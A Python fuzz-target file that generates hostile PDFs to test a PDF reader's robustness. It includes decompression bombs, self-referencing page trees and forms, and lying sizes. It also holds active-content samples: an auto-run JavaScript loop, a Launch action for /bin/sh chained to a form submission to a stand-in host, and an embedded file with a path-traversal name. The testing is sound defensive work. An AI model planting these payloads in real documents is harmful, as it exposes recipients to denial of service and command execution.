"""PDF files, among them hostile ones: loops, bombs, lies about sizes, scripts, embedded files, encryption."""

import hashlib
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from bench._pdf_make import line, pdf, written

from fuzz.target import Target, words
from fuzz.targets.reading import check_reader
from gristmill_pdf import reader

TEXT = line(60, 700, "The stones of the mill turn day and night.") + line(60, 680, "They grind 24 sacks of corn.")
MORE = line(60, 700, "In autumn the river is high, and the wheel turns fast.") + line(
    60, 500, "Flour is sold by weight."
)
BOMB_BYTES = 100_000_000
MANY_PAGES = 10_000


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def _document(contents: bytes, page: bytes = b"", more: tuple[bytes, ...] = (), pages: bytes = b"") -> bytes:
    """One page; its content is object 4, its font 5, and `more` begin at 6."""
    return written(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            pages or b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
            b"/MediaBox[0 0 612 792]%s>>" % page,
            contents,
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *more,
        ]
    )


def _bomb(filters: int) -> bytes:
    content = b" " * BOMB_BYTES
    for _ in range(filters):
        content = zlib.compress(content, 9)
    return _document(_stream(content, b"/Filter[%s]" % (b"/FlateDecode " * filters)))


_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"


def _form(content: bytes, entries: bytes = b"") -> bytes:
    return _stream(content, _FORM + entries)


def _packed(content: bytes, entries: bytes = b"") -> bytes:
    return _stream(zlib.compress(content, 9), b"/Filter/FlateDecode" + entries)


def _many_pages() -> bytes:
    """Pages that share one object: 10,000 of them in 100 kB."""
    kids = b"3 0 R " * MANY_PAGES
    return _document(_stream(TEXT), pages=b"<</Type/Pages/Count %d/Kids[%s]>>" % (MANY_PAGES, kids))


def _xref_loop() -> bytes:
    whole = _document(_stream(TEXT))
    start = whole.rindex(b"xref\n0")
    return whole.replace(b"trailer<<", b"trailer<</Prev %d" % start, 1)


def _wide_glyphs() -> bytes:
    """Positions that overflow numbers."""
    rows = (
        b"BT/F %d Tf %d %d Td(far)Tj ET" % (size, at, at) for size, at in ((1, 10**9), (10**6, -(10**9)), (0, 10**12))
    )
    return _document(_stream(TEXT + b"\n".join(rows)))


def _rc4(key: bytes, data: bytes) -> bytes:
    box, at = list(range(256)), 0
    for n in range(256):
        at = (at + box[n] + key[n % len(key)]) % 256
        box[n], box[at] = box[at], box[n]
    found, one, other = bytearray(), 0, 0
    for byte in data:
        one = (one + 1) % 256
        other = (other + box[one]) % 256
        box[one], box[other] = box[other], box[one]
        found.append(byte ^ box[(box[one] + box[other]) % 256])
    return bytes(found)


def _encrypted(password: bytes) -> bytes:
    """Encrypted with 40 bits (PDF 1.7, 7.6.3); with an empty password, every viewer opens it."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    rights, name = struct.pack("<i", -4), b"0123456789abcdef"
    owner = _rc4(hashlib.md5((b"miller" + pad)[:32]).digest()[:5], (password + pad)[:32])
    key = hashlib.md5((password + pad)[:32] + owner + rights + name).digest()[:5]
    content = _rc4(hashlib.md5(key + struct.pack("<I", 4)[:3] + b"\0\0").digest()[:10], TEXT)
    return _document(_stream(content)).replace(
        b"trailer<<",
        b"trailer<</Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<%s><%s>]"
        % (owner.hex().encode(), _rc4(key, pad).hex().encode(), name.hex().encode(), name.hex().encode()),
    )


HOSTILE: dict[str, Callable[[], bytes]] = {
    "a page tree that contains itself": lambda: _document(
        _stream(TEXT), pages=b"<</Type/Pages/Count 9/Kids[3 0 R 2 0 R 2 0 R]>>"
    ),
    "a parent that is its own child": lambda: _document(_stream(TEXT), page=b"/Kids[3 0 R]/Type/Pages/Count 1"),
    "an xref table whose predecessor is itself": _xref_loop,
    "a form that draws itself": lambda: _document(
        _stream(TEXT + b"/X Do"), more=(_form(b"/X Do /X Do", b"/Resources<</XObject<</X 6 0 R>>>>"),)
    ),
    "forms that draw forms, a billion times": lambda: _document(
        _stream(b"/X Do"),
        more=(
            *(_form(b"/X Do " * 10, b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + depth)) for depth in range(9)),
            _form(TEXT, b"/Resources<</Font<</F 5 0 R>>>>"),
        ),
    ),
    "forms that draw nothing, 65,536 times": lambda: _document(
        _stream(b"/X Do"),
        more=(
            *(_form(b"/X Do " * 2, b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + depth)) for depth in range(16)),
            _form(b"0 0 m 9 9 l S"),
        ),
    ),
    "5,000 forms, each in the next": lambda: _document(
        _stream(TEXT + b"/X Do"),
        more=tuple(_form(b"/X Do", b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + depth)) for depth in range(5_000)),
    ),
    "an image of 10 billion pixels in a byte": lambda: _document(
        _stream(TEXT + b" q 600 0 0 700 0 0 cm /X Do Q"),
        more=(_stream(b"x", b"/Subtype/Image/Width 99999/Height 99999/BitsPerComponent 8/ColorSpace/DeviceRGB"),),
    ),
    "a stream of 100 MB in 100 kB": lambda: _bomb(1),
    "a stream of 100 MB packed twice": lambda: _bomb(2),
    "a stream whose length is its own": lambda: _document(b"<</Length 4 0 R>>stream\n%s\nendstream" % TEXT),
    "a length that lies": lambda: _document(b"<</Length 99999999>>stream\n%s\nendstream" % TEXT),
    "an object stream that names itself": lambda: _document(
        _stream(TEXT), more=(_stream(b"6 0 7 9 <<>> <<>>", b"/Type/ObjStm/N 99999999/First 8/Extends 6 0 R"),)
    ),
    "10,000 pages": _many_pages,
    "a count of pages that lies": lambda: _document(
        _stream(TEXT), pages=b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"
    ),
    "a page of a billion points": lambda: _document(_stream(TEXT), page=b"/MediaBox[0 0 1e9 1e9]/UserUnit 1e9"),
    "a page of no size": lambda: _document(_stream(TEXT), page=b"/MediaBox[0 0 0 0]/CropBox[9 9 1 1]/Rotate 45"),
    "glyphs far away": _wide_glyphs,
    "a script that runs at opening": lambda: pdf(
        [TEXT], catalog=b"/OpenAction<</S/JavaScript/JS(while\\(1\\){app.alert\\(1\\)})>>/AA<</WC 7 0 R>>"
    ),
    "a program to start and an address to send to": lambda: pdf(
        [TEXT], catalog=b"/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(http://a.example/)>>>>"
    ),
    "an embedded file": lambda: pdf(
        [TEXT],
        (_stream(b"MZ evil", b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(../../evil.exe)/EF<</F 7 0 R>>>>"),
        b"/Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>",
    ),
    "encrypted with a password": lambda: pdf([TEXT]).replace(
        b"trailer<<",
        b"trailer<</Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (b"11" * 32, b"22" * 32),
    ),
    "encrypted with a real password": lambda: _encrypted(b"secret"),
    "encrypted, and open to all": lambda: _encrypted(b""),
    "an unknown encryption": lambda: pdf([TEXT]).replace(b"trailer<<", b"trailer<</Encrypt<</Filter/Mill/V 9>>"),
    "dictionaries in dictionaries": lambda: _document(_stream(TEXT), page=b"/A" + b"<</A" * 50_000 + b">>" * 50_000),
    "brackets without end": lambda: _document(_stream(b"[" * 100_000 + b"(" * 100_000 + TEXT)),
    "states that are never restored": lambda: _document(_stream(b"q " * 100_000 + TEXT)),
    "a million glyphs at one place": lambda: _document(
        _stream(b"BT/F 9 Tf 60 700 Td" + b"(a)Tj 0 0 Td " * 100_000 + b"ET")
    ),
    "more glyphs than a page may have": lambda: _document(
        _stream(TEXT + b"BT/F 9 Tf 60 500 Td" + b"(%s)Tj " % (b"a" * 1000) * 150 + b"ET")
    ),
    "a path of three million segments": lambda: _document(_packed(b"0 0 m " + b"9 9 l " * 3_000_000 + b"S")),
    "a hundred forms that draw 30,000 segments": lambda: _document(
        _stream(TEXT + b"/X Do " * 100), more=(_packed(b"0 0 m " + b"9 9 l " * 30_000 + b"S", _FORM),)
    ),
    "a font of no size": lambda: _document(_stream(b"BT/F 0 Tf 60 700 Td(The mill)Tj 0 0 0 0 9 9 Tm(is open)Tj ET")),
    "sizes and matrices that turn each other around": lambda: _document(
        _stream(
            TEXT + b"BT/F -9 Tf -1 0 0 -1 60 500 Tm(The mill)Tj 0 9 -9 0 60 400 Tm(is)Tj -1e9 0 0 1 9 9 Tm(open)Tj ET"
        )
    ),
    "hidden text under a picture that is not there": lambda: _document(_stream(b"3 Tr" + TEXT + b"/X Do /Y Do")),
    "a field whose parent is itself, on a page without contents": lambda: pdf(
        [b""],
        (b"<</FT/Tx/T(a)/V(The mill)/Parent 7 0 R/Kids[7 0 R]/Subtype/Widget/Rect[9 9 99 99]/AP<</N 7 0 R>>>>",),
        b"/AcroForm<</Fields[7 0 R 7 0 R]/NeedAppearances true>>",
    ),
    "an outline that leads back to itself": lambda: pdf(
        [TEXT], (b"<</Title(Mills)/Parent 7 0 R/First 7 0 R/Next 7 0 R/Last 7 0 R>>",), b"/Outlines 7 0 R"
    ),
    "boxes that are no numbers": lambda: _document(
        _stream(TEXT), page=b"/MediaBox[nan inf -inf 1e999]/CropBox[(a)/b null true]/UserUnit -1"
    ),
    "only the beginning": lambda: pdf([TEXT])[:60],
    "only the name of the format": lambda: b"%PDF-1.7",
    "a good file": lambda: pdf([TEXT, MORE]),
}
"""By what is wrong with it: a file."""

SLOW = (
    "10,000 pages",
    "a stream of 100 MB in 100 kB",
    "a stream of 100 MB packed twice",
    "a form that draws itself",
    "forms that draw forms, a billion times",
    "forms that draw nothing, 65,536 times",
    "5,000 forms, each in the next",
)
"""They take the reader seconds, or all of its processor time: no seeds."""


def _seeds() -> Iterator[bytes]:
    yield pdf([TEXT, MORE])
    yield from (make() for name, make in HOSTILE.items() if name not in SLOW)


def _check(data: bytes, folder: Path) -> None:
    check_reader(reader, data, folder, "x.pdf", max_record_bytes=1 << 20, max_pages=50)


def _flip(draw: random.Random, data: bytes) -> bytes:
    """A number that is another one: sizes, offsets and references lie."""
    digits = [place for place, byte in enumerate(data) if 48 <= byte <= 57]
    if not digits:
        return data
    changed = bytearray(data)
    for place in draw.choices(digits, k=draw.randint(1, 5)):
        changed[place] = draw.randint(48, 57)
    return bytes(changed)


_WORDS = words(
    b"obj|endobj|stream\n|\nendstream|xref\n|trailer|startxref\n|<<|>>|[|]|/Type/Page|/Type/Pages|/Kids[3 0 R]"
    b"|/Count -1|/Length 4 0 R|/Filter/FlateDecode|/Filter/LZWDecode|/Filter/JBIG2Decode|/ObjStm|/Encrypt|/Prev 9|1 0 R"
    b"|/Contents|/MediaBox[0 0 1e9 1e9]|BT|ET|Tj|TJ|/F 9 Tf|1e38 0 0 1e38 0 0 cm|Do|BI|ID|EI|%%EOF"
)
TARGETS = [Target("pdf", _seeds, _check, _WORDS, (_flip,))]
